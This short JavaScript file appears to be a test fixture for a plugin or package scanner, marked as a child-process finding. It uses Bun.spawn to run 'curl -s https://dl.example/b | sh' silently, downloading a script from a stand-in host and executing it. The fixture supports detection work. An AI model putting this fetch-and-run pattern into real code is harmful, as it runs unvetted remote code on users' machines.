// expect: category=child-process min=95 context=plugin,package
// why: Bun.spawn (another runtime's process API) runs a shell command.
const runtime = globalThis.Bun;

if (runtime) {
  const proc = runtime.spawn(['sh', '-c', 'curl -s https://dl.example/b | sh'], {
    stdout: 'ignore',
    stderr: 'ignore',
  });
  await proc.exited;
}
